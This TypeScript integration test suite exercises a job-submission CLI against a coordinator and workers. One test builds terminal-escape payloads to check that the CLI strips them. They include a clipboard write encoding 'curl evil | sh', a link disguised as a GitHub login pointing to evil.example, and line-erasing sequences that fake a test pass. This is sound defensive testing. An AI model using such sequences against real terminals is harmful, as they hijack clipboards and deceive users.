/**
 * `cmdx` as a client (the built CLI) against a real coordinator and two real worker processes:
 * submit (a folder honouring .gitignore, a zip, a run with --on), following, exit codes, every
 * listing and status command, cancel, artifacts, login/logout with a pinned certificate, and errors.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { displayFingerprint } from '../../shared/fingerprint.ts';
import { dropBox, startTestCoordinator, tempDir, type TestCoordinator } from '../helpers/coordinator.ts';
import { CLI, startCli, startCoordinatorProcess, waitFor, type CliProcess } from '../helpers/processes.ts';
import { writeZip } from '../helpers/zip.ts';
import { createUser, signIn } from '../helpers/people.ts';

interface Ran {
  code: number | null;
  stdout: string;
  stderr: string;
}

interface Running {
  /** What it printed so far. */
  stdout(): string;
  stderr(): string;
  done: Promise<Ran>;
}

/** The built CLI with exactly `env` for its configuration (none of this process's CMDX_* variables). */
function spawnCmdx(args: string[], env: Record<string, string>, input?: string): Running {
  return spawnProgram(process.execPath, [CLI, ...args], env, input);
}

/** The built CLI on a pseudo-terminal (util-linux `script`), as a person sees it: stdout and stderr on one screen. */
function onTerminal(args: string[], env: Record<string, string>): Running {
  const command = [process.execPath, CLI, ...args].map((arg) => `'${arg.replaceAll("'", "'\\''")}'`).join(' ');
  return spawnProgram('script', ['--quiet', '--return', '--command', command, '/dev/null'], env);
}

function spawnProgram(file: string, args: string[], env: Record<string, string>, input?: string): Running {
  const base = Object.fromEntries(Object.entries(process.env).filter(([name]) => !name.startsWith('CMDX_') && name !== 'NO_COLOR'));
  const proc = spawn(file, args, { env: { ...base, ...env }, stdio: ['pipe', 'pipe', 'pipe'] });
  let stdout = '';
  let stderr = '';
  proc.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
  proc.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
  proc.stdin.end(input ?? '');
  const done = new Promise<Ran>((resolve) => proc.once('close', (code) => resolve({ code, stdout, stderr })));
  return { stdout: () => stdout, stderr: () => stderr, done };
}

/** Escape codes made visible (ESC as ⎋), so that assertions can spell them. */
function visible(text: string): string {
  return text.replaceAll('\x1b', '⎋');
}

/** Where a file's lines sit in `text`, to check their order. */
function lineIndex(text: string, line: string): number {
  const index = text.split('\n').indexOf(line);
  assert.notEqual(index, -1, `"${line}" is not a line of:\n${text}`);
  return index;
}

describe('cmdx as a client', () => {
  let c: TestCoordinator;
  const workers: CliProcess[] = [];
  let config: string;
  let project: string;
  let drop: string;
  /** The coordinator and admin token through the environment, and a profile folder of its own. */
  let env: Record<string, string>;
  const cmdx = (args: string[], extra: Record<string, string> = {}, input?: string) => spawnCmdx(args, { ...env, ...extra }, input).done;

  before(async () => {
    c = await startTestCoordinator();
    for (const [id, tags] of [
      ['pc-1', 'lab,room-a'],
      ['pc-2', 'lab,room-b'],
    ] as const) {
      // Named lab-pc-N (their hostname on the dashboard): where a job ran shows as the name, never the id.
      const args = ['--server', c.url, '--id', id, '--name', `lab-${id}`, '--tags', tags, '--heartbeat-interval', '0.5'];
      workers.push(startCli(['worker', ...args, '--work-dir', tempDir('cmdx-worker-')], { CMDX_JOIN_TOKEN: c.tokens.joinToken }));
    }
    config = tempDir('cmdx-config-');
    env = { CMDX_SERVER: c.url, CMDX_TOKEN: c.tokens.adminToken, XDG_CONFIG_HOME: config };
    drop = dropBox();
    // A project as people have them: ignored files, installed packages, git history, a nested .gitignore that re-includes.
    project = join(tempDir('cmdx-project-'), 'my-project');
    const files: Record<string, string> = {
      '.gitignore': 'secret.txt\nbuild/\n*.log\n',
      'a.txt': 'a\n',
      'secret.txt': 'do not send\n',
      'build/out.txt': 'built\n',
      'src/main.txt': 'main\n',
      'src/debug.log': 'noise\n',
      'sub/.gitignore': '!keep.log\n',
      'sub/keep.log': 'kept\n',
      'node_modules/pkg/index.js': 'module.exports = 1;\n',
      '.git/HEAD': 'ref: refs/heads/main\n',
    };
    for (const [name, content] of Object.entries(files)) {
      mkdirSync(join(project, name, '..'), { recursive: true });
      writeFileSync(join(project, name), content);
    }
    await waitFor(
      'both workers idle',
      async () => {
        const list = (await c.api('GET', '/api/workers/register')).body.workers as { workerId: string; status: string }[];
        return ['pc-1', 'pc-2'].every((id) => list.find((w) => w.workerId === id)?.status === 'idle') || undefined;
      },
      30_000,
    );
  });

  after(async () => {
    await Promise.all(workers.map((w) => w.kill('SIGKILL')));
    await c?.close();
  });

  it('submits a folder, streams its log in order and exits 0; .gitignore, node_modules and .git stay home', async () => {
    const ran = await cmdx(['submit', project, '--run', 'echo first', '--run', 'ls -Ra', '--run', 'echo last', '--follow', '--wait']);
    assert.equal(ran.code, 0, ran.stderr);
    const out = ran.stdout;
    assert.ok(lineIndex(out, 'first') < lineIndex(out, 'a.txt'), out);
    assert.ok(lineIndex(out, 'a.txt') < lineIndex(out, 'last'), out);
    for (const sent of ['.gitignore', 'main.txt', 'keep.log']) lineIndex(out, sent);
    for (const kept of ['secret.txt', 'build', 'debug.log', 'node_modules', '.git'])
      assert.doesNotMatch(out, new RegExp(`^${kept.replace('.', '\\.')}$`, 'm'), kept);
    assert.match(ran.stderr, /Packed 5 file\(s\) from .*my-project into \d+ B/);
    assert.match(ran.stderr, /Sending \d+ B to http:\/\/127\.0\.0\.1:\d+/);
    assert.match(ran.stderr, new RegExp(`Job job-\\S+: ${c.url.replace(/\./g, '\\.')}/#/jobs/job-`));
    assert.match(ran.stderr, /: passed on lab-pc-[12] in /);
    assert.ok(!(ran.stdout + ran.stderr).includes('\x1b['), 'no colours in a pipe');
  });

  it("exits with the job's own exit code, after its output up to the failing line", async () => {
    const ran = await cmdx([
      'submit',
      project,
      '--run',
      'echo before',
      '--run',
      'echo oops >&2',
      '--run',
      'exit 7',
      '--run',
      'echo never',
      '--follow',
      '--wait',
    ]);
    assert.equal(ran.code, 7, ran.stderr);
    assert.ok(lineIndex(ran.stdout, 'before') < lineIndex(ran.stdout, 'oops'));
    assert.doesNotMatch(ran.stdout, /^never$/m);
    assert.match(ran.stderr, /failed \(exit 7\) on lab-pc-[12]/);
  });

  it('names the worker as the admin renamed it: submit --wait, jobs and status', async () => {
    const names = { 'pc-1': 'Front row', 'pc-2': 'Back row' };
    const rename = async (workerId: string, name: string | null) =>
      assert.equal((await c.api('POST', '/api/workers/rename', { body: { workerId, name } })).status, 200);
    try {
      for (const [workerId, name] of Object.entries(names)) await rename(workerId, name);
      const ran = await cmdx(['submit', project, '--run', 'echo named', '--wait']);
      assert.equal(ran.code, 0, ran.stderr);
      const jobId = ran.stdout.trim();
      const job = JSON.parse((await cmdx(['status', jobId, '--json'])).stdout);
      const name = names[job.workerId as keyof typeof names];
      assert.equal(job.workerName, name);
      assert.match(ran.stderr, new RegExp(`^${jobId}: passed on ${name} in `, 'm'));
      assert.doesNotMatch(ran.stderr, / on (lab-)?pc-[12]/);
      const status = await cmdx(['status', jobId]);
      assert.match(status.stdout, new RegExp(`^worker: +${name} \\(${job.workerId}\\)$`, 'm'));
      const list = await cmdx(['jobs', '--limit', '1']);
      assert.match(list.stdout, new RegExp(`^${jobId} +passed +${name} +`, 'm'));
    } finally {
      for (const workerId of Object.keys(names)) await rename(workerId, null);
    }
  });

  it('sends a zip as it is and prints the job id alone on stdout; logs, status and status --json read it back', async () => {
    const zip = await writeZip(join(tempDir(), 'given.zip'), [{ name: 'data.txt', content: 'from the zip\n' }]);
    const ran = await cmdx(['submit', zip, '--run', 'cat data.txt', '--run', 'echo to-stderr >&2', '--wait']);
    assert.equal(ran.code, 0, ran.stderr);
    const jobId = ran.stdout.trim();
    assert.match(jobId, /^job-[\w-]+$/);
    assert.doesNotMatch(ran.stderr, /Packed/);

    const logs = await cmdx(['logs', jobId]);
    assert.equal(logs.code, 0, logs.stderr);
    assert.equal(logs.stdout, '$ cat data.txt\nfrom the zip\n$ echo to-stderr >&2\nto-stderr\n');

    const status = await cmdx(['status', jobId]);
    assert.equal(status.code, 0, status.stderr);
    assert.match(status.stdout, /^state: +passed$/m);
    assert.match(status.stdout, /^zip: +given\.zip$/m);
    assert.match(status.stdout, new RegExp(`^dashboard: +${c.url.replace(/\./g, '\\.')}/#/jobs/${jobId}$`, 'm'));
    const json = await cmdx(['status', jobId, '--json']);
    const job = JSON.parse(json.stdout);
    assert.equal(job.jobId, jobId);
    assert.equal(job.status, 'completed');
    assert.equal(job.exitCode, 0);
  });

  it('logs -f follows a running job until it ends', async () => {
    const go = join(drop, 'go-logs');
    const submitted = await cmdx(['submit', project, '--run', `echo waiting; while [ ! -f ${go} ]; do sleep 0.05; done; echo done-now`]);
    const jobId = submitted.stdout.trim();
    const follower = spawnCmdx(['logs', jobId, '-f'], env);
    await waitFor('the follower shows the first line', () => follower.stdout().includes('waiting\n') || undefined);
    assert.doesNotMatch(follower.stdout(), /^done-now$/m);
    writeFileSync(go, '');
    const ran = await follower.done;
    assert.equal(ran.code, 0, ran.stderr);
    assert.ok(lineIndex(ran.stdout, 'waiting') < lineIndex(ran.stdout, 'done-now'));
  });

  it('cancel JOB stops a running job, and submit --wait then exits 130', async () => {
    const never = join(drop, 'never-job');
    const waiting = spawnCmdx(['submit', project, '--run', `echo started; while [ ! -f ${never} ]; do sleep 0.05; done`, '--wait'], env);
    const jobId = await waitFor('the job id on stdout', () => /^(job-\S+)\n/.exec(waiting.stdout())?.[1]);
    await waitFor('the job running', async () => (await c.api('GET', `/api/jobs/status?jobId=${jobId}`)).body.status === 'running' || undefined);
    const cancel = await cmdx(['cancel', jobId]);
    assert.equal(cancel.code, 0, cancel.stderr);
    assert.match(cancel.stdout, new RegExp(`^${jobId}: Cancellation requested`));
    const ran = await waiting.done;
    assert.equal(ran.code, 130, ran.stderr);
    assert.match(ran.stderr, /: cancelled/);
  });

  it('submit --on tag:NAME creates a run on the matching PC only, shows a per-PC summary and --wait exits 0', async () => {
    const ran = await cmdx(['submit', project, '--on', 'tag:room-b', '--run', 'echo on room b', '--name', 'Room B check', '--follow', '--wait']);
    assert.equal(ran.code, 0, ran.stderr);
    const runId = /Run (run-\S+): /.exec(ran.stderr)?.[1];
    assert.ok(runId, ran.stderr);
    assert.match(ran.stderr, new RegExp(`#/runs/${runId}`));
    assert.match(ran.stderr, /1 job\(s\), one per PC matching tag:room-b\./);
    // In a pipe: a line per change of a job's state, then the headline.
    assert.match(ran.stdout, /^\S+ {2}pc-2 {2}passed/m);
    assert.doesNotMatch(ran.stdout, /pc-1/);
    assert.match(ran.stdout, new RegExp(`^${runId} \\(Room B check\\): 1 of 1 passed \\(done\\)$`, 'm'));

    const status = await cmdx(['status', runId]);
    assert.equal(status.code, 0, status.stderr);
    assert.match(status.stdout, new RegExp(`^${runId} \\(Room B check\\): 1 of 1 passed \\(done\\)$`, 'm'));
    assert.match(status.stdout, /pc-2 +passed/);
    const json = JSON.parse((await cmdx(['status', runId, '--json'])).stdout);
    assert.equal(json.runId, runId);
    assert.equal(json.summary.passed, 1);
    assert.deepEqual(json.target, { tags: ['room-b'] });
  });

  it('a run where one PC fails exits 1 with --wait, and names both PCs', async () => {
    const lock = join(drop, 'only-one-passes');
    // mkdir is atomic: exactly one of the two PCs gets the folder and passes.
    const ran = await cmdx(['submit', project, '--on', 'tag:lab', '--run', `mkdir ${lock} || exit 4`, '--follow', '--wait']);
    assert.equal(ran.code, 1, ran.stderr);
    assert.match(ran.stdout, /pc-1 {2}(passed|failed \(exit 4\))/);
    assert.match(ran.stdout, /pc-2 {2}(passed|failed \(exit 4\))/);
    assert.match(ran.stdout, /: 1 of 2 passed, 1 failed \(done\)$/m);
  });

  it('cancel RUN cancels every job of a run that has not ended', async () => {
    const never = join(drop, 'never-run');
    const submitted = await cmdx(['submit', project, '--on', 'all', '--run', `while [ ! -f ${never} ]; do sleep 0.05; done`]);
    assert.equal(submitted.code, 0, submitted.stderr);
    const runId = submitted.stdout.trim();
    assert.match(runId, /^run-/);
    const cancel = await cmdx(['cancel', runId]);
    assert.equal(cancel.code, 0, cancel.stderr);
    assert.match(cancel.stdout, new RegExp(`^${runId}: \\d job\\(s\\) cancelled, \\d stopping on their worker\\.`));
    const done = await waitFor('the run cancelled', async () => {
      const status = JSON.parse((await cmdx(['status', runId, '--json'])).stdout);
      return status.completedAt !== null ? status : undefined;
    });
    assert.equal(done.summary.cancelled, 2);
  });

  it('workers --json lists both workers with their tags; workers prints a table', async () => {
    const ran = await cmdx(['workers', '--json']);
    assert.equal(ran.code, 0, ran.stderr);
    const answer = JSON.parse(ran.stdout);
    const tags = Object.fromEntries(answer.workers.map((w: any) => [w.workerId, w.tags]));
    assert.deepEqual(tags, { 'pc-1': ['lab', 'room-a'], 'pc-2': ['lab', 'room-b'] });
    const text = await cmdx(['workers']);
    assert.match(text.stdout, /^NAME +ID +STATUS +TAGS +JOB +OS +LAST SEEN$/m);
    assert.match(text.stdout, / pc-1 +(idle|busy) +lab,room-a /);
  });

  it('jobs filters by --status and --outcome, newest first, --limit jobs at most', async () => {
    const completed = JSON.parse((await cmdx(['jobs', '--status', 'completed', '--json', '--limit', '100'])).stdout);
    assert.ok(completed.jobs.length >= 4);
    assert.ok(completed.jobs.every((j: any) => j.status === 'completed'));
    const failed = JSON.parse((await cmdx(['jobs', '--outcome', 'failed', '--json'])).stdout);
    assert.ok(failed.jobs.some((j: any) => j.exitCode === 7));
    assert.ok(failed.jobs.every((j: any) => j.status === 'failed' || (j.status === 'completed' && j.exitCode !== 0)));
    const cancelled = JSON.parse((await cmdx(['jobs', '--outcome', 'cancelled', '--json'])).stdout);
    assert.equal(cancelled.jobs.length, 3);
    const one = JSON.parse((await cmdx(['jobs', '--json', '--limit', '1'])).stdout);
    assert.equal(one.jobs.length, 1);
    assert.ok(one.total > 1);
    const text = await cmdx(['jobs', '--limit', '2']);
    assert.match(text.stdout, /^JOB +STATE +WORKER +CREATED +COMMAND$/m);
    assert.match(text.stdout, /^2 of \d+ shown \(--limit N for more\)\.$/m);
    const bad = await cmdx(['jobs', '--outcome', 'great']);
    assert.equal(bad.code, 1);
    assert.match(bad.stderr, /^cmdx: "outcome" must be one of active, passed, failed, cancelled/);
  });

  it('runs lists the runs newest first, as a table or JSON', async () => {
    const answer = JSON.parse((await cmdx(['runs', '--json'])).stdout);
    assert.equal(answer.runs.length, 3);
    const text = await cmdx(['runs']);
    assert.equal(text.code, 0, text.stderr);
    assert.match(text.stdout, /^RUN +NAME +MODE +RESULT +CREATED +COMMAND$/m);
    assert.match(text.stdout, new RegExp(`^${answer.runs[2].runId} +Room B check +each +1/1 passed `, 'm'));
    assert.match(text.stdout, new RegExp(`^${answer.runs[0].runId} +each +0/2 passed, 2 cancelled `, 'm'));
    assert.match(text.stdout, /1\/2 passed, 1 failed/);
  });

  it("artifacts downloads a job's result files into a new folder, or as the zip; a job without any gets the coordinator's sentence", async () => {
    const ran = await cmdx(['submit', project, '--run', 'mkdir -p out && echo one > out/1.txt && echo two > out/2.txt', '--artifacts', 'out/*.txt', '--wait']);
    assert.equal(ran.code, 0, ran.stderr);
    const jobId = ran.stdout.trim();
    const into = join(tempDir(), 'results');
    const unpacked = await cmdx(['artifacts', jobId, '-o', into]);
    assert.equal(unpacked.code, 0, unpacked.stderr);
    assert.equal(readFileSync(join(into, 'out/1.txt'), 'utf8'), 'one\n');
    assert.equal(readFileSync(join(into, 'out/2.txt'), 'utf8'), 'two\n');
    const again = await cmdx(['artifacts', jobId, '-o', into]);
    assert.equal(again.code, 2);
    assert.match(again.stderr, /exists already/);
    const zip = join(tempDir(), 'results.zip');
    const saved = await cmdx(['artifacts', jobId, '--zip', '-o', zip]);
    assert.equal(saved.code, 0, saved.stderr);
    assert.equal(readFileSync(zip).subarray(0, 4).toString('latin1'), 'PK\x03\x04');

    const logs = JSON.parse((await cmdx(['jobs', '--json', '--outcome', 'passed', '--limit', '100'])).stdout);
    const without = logs.jobs.find((j: any) => j.jobId !== jobId);
    const none = await cmdx(['artifacts', without.jobId, '-o', join(tempDir(), 'none')]);
    assert.equal(none.code, 1);
    assert.match(none.stderr, /^cmdx: .*has no artifacts/);
  });

  it('login pins the certificate and keeps the token in a 0600 profile without printing it; logout deletes it', async () => {
    const https = c.url.replace('http://', 'https://');
    const fingerprint = displayFingerprint(c.fingerprint!);
    const own = { XDG_CONFIG_HOME: tempDir('cmdx-config-') };
    const profile = join(own.XDG_CONFIG_HOME, 'cmd-executor', 'client.json');

    const unpinned = await spawnCmdx(['login', https], own, `${c.tokens.adminToken}\n`).done;
    assert.equal(unpinned.code, 1);
    assert.match(unpinned.stderr, new RegExp(`it presents SHA-256 ${fingerprint}\\. If its dashboard`));
    const wrong = await spawnCmdx(['login', https, '--fingerprint', 'ab'.repeat(32)], own, `${c.tokens.adminToken}\n`).done;
    assert.equal(wrong.code, 1);
    assert.match(wrong.stderr, new RegExp(`presented certificate SHA-256 ${fingerprint}, expected AB:AB:`));
    const badToken = await spawnCmdx(['login', https, '--fingerprint', fingerprint], own, 'not-the-token\n').done;
    assert.equal(badToken.code, 1);
    assert.match(badToken.stderr, /The token is not valid for this coordinator/);
    assert.equal(existsSync(profile), false, 'nothing is saved until the coordinator accepted it all');

    const login = await spawnCmdx(['login', https, '--fingerprint', fingerprint], own, `${c.tokens.adminToken}\n`).done;
    assert.equal(login.code, 0, login.stderr);
    assert.match(login.stdout, /^Logged in to https:\/\/127\.0\.0\.1:\d+ with the admin token, certificate SHA-256 /);
    assert.ok(!(login.stdout + login.stderr).includes(c.tokens.adminToken), 'the token is never printed');
    assert.equal(statSync(profile).mode & 0o777, 0o600);
    assert.deepEqual(JSON.parse(readFileSync(profile, 'utf8')), { server: https, fingerprint: c.fingerprint, token: c.tokens.adminToken });

    // Everything from the profile alone, over TLS pinned to the certificate.
    const listed = await spawnCmdx(['workers', '--json'], own).done;
    assert.equal(listed.code, 0, listed.stderr);
    assert.equal(JSON.parse(listed.stdout).workers.length, 2);

    // The join line carries the address and the fingerprint (its join token is not the admin's and is not kept).
    const line = `cmdx://127.0.0.1:${c.port}/?fp=${c.fingerprint}&token=${c.tokens.joinToken}`;
    const again = await spawnCmdx(['login', line], own, `${c.tokens.adminToken}\n`).done;
    assert.equal(again.code, 0, again.stderr);
    assert.deepEqual(JSON.parse(readFileSync(profile, 'utf8')), { server: https, fingerprint: c.fingerprint, token: c.tokens.adminToken });

    // A teacher logs in with a personal token: cmdx says who, and the profile keeps that token.
    const { password } = await createUser(c, 'tess', 'teacher', { tags: ['room-b'] });
    const personal = (await (await signIn(c, 'tess', password)).api('POST', '/api/tokens/create', { body: { name: 'laptop', expiresInDays: 7 } })).body.token;
    const asTeacher = await spawnCmdx(['login', https, '--fingerprint', fingerprint], own, `${personal}\n`).done;
    assert.equal(asTeacher.code, 0, asTeacher.stderr);
    assert.match(asTeacher.stdout, /^Logged in to https:\/\/127\.0\.0\.1:\d+ as tess \(teacher: room-b\), certificate SHA-256 /);
    assert.equal(JSON.parse(readFileSync(profile, 'utf8')).token, personal);
    const roomB = await spawnCmdx(['workers', '--json'], own).done;
    assert.deepEqual(
      JSON.parse(roomB.stdout).workers.map((w: any) => w.workerId),
      ['pc-2'],
      'her rooms only',
    );

    const logout = await spawnCmdx(['logout'], own).done;
    assert.equal(logout.code, 0);
    assert.equal(existsSync(profile), false);
    const nowhere = await spawnCmdx(['workers'], own).done;
    assert.equal(nowhere.code, 2);
    assert.match(nowhere.stderr, /^cmdx: No coordinator is configured\. Log in once with "cmdx login https:\/\/HOST:PORT --fingerprint SHA256"/);
  });

  it('on a terminal: an upload progress bar, stderr in red, the outcome in colour; NO_COLOR prints plain text', async () => {
    const ran = await onTerminal(['submit', project, '--run', 'echo out', '--run', 'echo err >&2', '--follow', '--wait'], env).done;
    assert.equal(ran.code, 0, ran.stdout);
    const screen = visible(ran.stdout);
    assert.match(screen, /\rUploading \[#+\] 100% {2}\d+ B of \d+ B⎋\[K/);
    assert.match(screen, /⎋\[31merr/);
    assert.match(screen, /⎋\[32mjob-\S+: passed on lab-pc-[12] in /);
    const plain = await onTerminal(['submit', project, '--run', 'echo err >&2', '--follow', '--wait'], { ...env, NO_COLOR: '1' }).done;
    assert.equal(plain.code, 0, plain.stdout);
    assert.match(plain.stdout, /^err\r?$/m);
    assert.doesNotMatch(visible(plain.stdout), /⎋/);
  });

  it("a job's output reaches the admin's terminal with its colours only: no clipboard, title, link, cursor or erase (also in a pipe, unless --raw)", async () => {
    // What one job tried: OSC 52 (clipboard), OSC 0 (title), OSC 8 (a disguised link), cursor up + erase line, 8-bit CSI, BEL, DCS.
    const attack = [
      `printf 'tests: 3 failed\\n'`,
      `printf '\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007'`,
      `printf '\\033]0;pwned\\033\\\\'`,
      `printf '\\033]8;;https://evil.example/\\033\\\\https://github.com/login\\033]8;;\\033\\\\\\n'`,
      `printf '\\033[1A\\033[2K\\033[32mAll 20 tests passed\\033[0m\\n'`,
      `printf '\\302\\2331A\\302\\2352;x\\007\\033Pq#0\\033\\\\bell\\007end\\n'`,
    ];
    const screen = (text: string) => {
      for (const banned of ['\x1b]', '\x1b[1A', '\x1b[2K', '\x1bP', '\u009b', '\u009d', '\x07'])
        assert.ok(!text.includes(banned), `${JSON.stringify(banned)} reached: ${visible(text)}`);
    };
    const followed = await onTerminal(['submit', project, ...attack.flatMap((line) => ['--run', line]), '--follow', '--wait'], env).done;
    assert.equal(followed.code, 0, followed.stdout);
    screen(followed.stdout);
    assert.match(followed.stdout, /tests: 3 failed/);
    assert.match(visible(followed.stdout), /⎋\[32mAll 20 tests passed⎋\[0m/); // colours stay
    assert.match(followed.stdout, /https:\/\/github\.com\/login/); // the text of the link, not the link
    assert.match(followed.stdout, /bellend/);
    const jobId = /Job (job-\S+):/.exec(followed.stdout)![1]!;

    const logs = await onTerminal(['logs', jobId], env).done;
    assert.equal(logs.code, 0, logs.stdout);
    screen(logs.stdout);
    assert.match(logs.stdout, /tests: 3 failed/);
    const live = await onTerminal(['logs', '-f', jobId], env).done;
    screen(live.stdout);
    assert.match(live.stdout, /All 20 tests passed/);

    const piped = await cmdx(['logs', jobId]);
    screen(piped.stdout);
    const raw = await cmdx(['logs', jobId, '--raw']);
    assert.ok(raw.stdout.includes('\x1b]52;c;'), 'with --raw into a pipe, the bytes as they came');
    const rawOnTerminal = await onTerminal(['logs', jobId, '--raw'], env).done;
    assert.equal(rawOnTerminal.code, 2);
    assert.match(rawOnTerminal.stdout, /--raw .* only for a pipe or a file/);
    screen(rawOnTerminal.stdout);
  });

  it("on a terminal, a run's per-PC summary is redrawn in place as its jobs change", async () => {
    const go = join(drop, 'go-terminal');
    const watching = onTerminal(['submit', project, '--on', 'tag:room-a', '--run', `while [ ! -f ${go} ]; do sleep 0.05; done`, '--follow', '--wait'], env);
    await waitFor('the job shown running', () => /pc-1 {2}⎋\[33mrunning/.test(visible(watching.stdout())) || undefined, 30_000);
    writeFileSync(go, '');
    const ran = await watching.done;
    assert.equal(ran.code, 0, ran.stdout);
    // Two lines (the headline and pc-1's) drawn again over themselves: cursor up 2, clear to the end.
    assert.match(visible(ran.stdout), /⎋\[2A\r⎋\[J⎋\[1mrun-\S+: 1 of 1 passed \(done\)⎋\[22m\r?\n\S+ {2}pc-1 {2}⎋\[32mpassed/);
  });

  it('submit --shell reaches the job, and every job of a run with --on; status shows it; without it, none', async () => {
    const ran = await cmdx(['submit', project, '--run', 'echo in sh', '--shell', 'sh', '--wait']);
    assert.equal(ran.code, 0, ran.stderr);
    const jobId = ran.stdout.trim();
    const job = (await c.api('GET', `/api/jobs/status?jobId=${jobId}`)).body;
    assert.deepEqual([job.status, job.exitCode, job.shell], ['completed', 0, 'sh']);
    assert.match((await cmdx(['status', jobId])).stdout, /^shell: +sh$/m);

    const run = await cmdx(['submit', project, '--on', 'tag:lab', '--run', 'echo in sh', '--shell', 'sh', '--wait']);
    assert.equal(run.code, 0, run.stderr);
    const runId = run.stdout.split('\n')[0]!; // the id, then (with --wait) the run's headline
    const status = (await c.api('GET', `/api/runs/status?runId=${runId}`)).body;
    assert.equal(status.shell, 'sh');
    assert.equal(status.jobs.length, 2);
    for (const { jobId: id } of status.jobs) assert.equal((await c.api('GET', `/api/jobs/status?jobId=${id}`)).body.shell, 'sh');

    const plain = await cmdx(['submit', project, '--run', 'true', '--wait']);
    assert.equal(plain.code, 0, plain.stderr);
    assert.equal((await c.api('GET', `/api/jobs/status?jobId=${plain.stdout.trim()}`)).body.shell, null);
    assert.doesNotMatch((await cmdx(['status', plain.stdout.trim()])).stdout, /^shell:/m);
  });

  it('refuses --shell with a shell it does not know, exit code 2, before sending anything', async () => {
    const before = (await c.api('GET', '/api/jobs/create')).body.count;
    const ran = await cmdx(['submit', project, '--run', 'true', '--shell', 'bash']);
    assert.equal(ran.code, 2);
    assert.match(ran.stderr, /--shell must be one of cmd, powershell, pwsh, sh \(got "bash"\); leave it out for the worker's default/);
    assert.doesNotMatch(ran.stderr, /Packed|Sending/);
    assert.equal((await c.api('GET', '/api/jobs/create')).body.count, before);
  });

  it("a wrong token prints the coordinator's sentence on stderr and exits 1", async () => {
    const ran = await cmdx(['workers'], { CMDX_TOKEN: 'cmdx_a_not-the-right-token' });
    assert.equal(ran.code, 1);
    assert.equal(ran.stdout, '');
    assert.equal(ran.stderr, 'cmdx: The token is not valid for this coordinator; check the token you were given.\n');
  });

  it('refuses a bad command line with exit code 2 and a sentence', async () => {
    const noRun = await cmdx(['submit', project]);
    assert.equal(noRun.code, 2);
    assert.match(noRun.stderr, /Say what to run: --run "npm test"/);
    const badOn = await cmdx(['submit', project, '--run', 'true', '--on', 'room-b']);
    assert.equal(badOn.code, 2);
    assert.match(badOn.stderr, /--on must be all, tag:NAME\[,NAME\] \(PCs with every tag\) or worker:ID\[,ID\]/);
    const notId = await cmdx(['status', 'nope']);
    assert.equal(notId.code, 2);
    assert.match(notId.stderr, /"nope" is neither a job id \(job-…\) nor a run id \(run-…\)/);
    const missing = await cmdx(['submit', join(drop, 'no-such-folder'), '--run', 'true']);
    assert.equal(missing.code, 2);
    assert.match(missing.stderr, /does not exist; give a project folder or a zip file/);
  });
});

describe('cmdx follows a job across a coordinator restart', () => {
  it('keeps streaming the log when the coordinator is killed and comes back on the same port, then exits with the job', async () => {
    const dataDir = tempDir();
    let coordinator = await startCoordinatorProcess(dataDir);
    const port = Number(new URL(coordinator.url).port);
    const tokens = JSON.parse(readFileSync(join(dataDir, 'tokens.json'), 'utf8'));
    const worker = startCli(['worker', '--server', coordinator.url, '--id', 'pc-r', '--work-dir', tempDir('cmdx-worker-'), '--heartbeat-interval', '0.5'], {
      CMDX_JOIN_TOKEN: tokens.joinToken,
    });
    try {
      const go = join(dropBox(), 'go');
      const project = tempDir('cmdx-project-');
      writeFileSync(join(project, 'x.txt'), 'x\n');
      const env = { CMDX_SERVER: coordinator.url, CMDX_TOKEN: tokens.adminToken, XDG_CONFIG_HOME: tempDir('cmdx-config-') };
      const follower = spawnCmdx(
        ['submit', project, '--run', `echo before-restart; while [ ! -f ${go} ]; do sleep 0.05; done; echo after-restart; exit 5`, '--follow', '--wait'],
        env,
      );
      await waitFor('the first line', () => follower.stdout().includes('before-restart\n') || undefined, 30_000);
      await coordinator.kill('SIGKILL');
      await new Promise((resolve) => setTimeout(resolve, 1500)); // the follower polls (and fails) a few times while it is gone
      coordinator = await startCoordinatorProcess(dataDir, [], port);
      writeFileSync(go, '');
      const ran = await follower.done;
      assert.equal(ran.code, 5, ran.stderr);
      assert.ok(lineIndex(ran.stdout, 'before-restart') < lineIndex(ran.stdout, 'after-restart'));
    } finally {
      await worker.kill('SIGKILL');
      await coordinator.kill('SIGKILL');
    }
  });
});
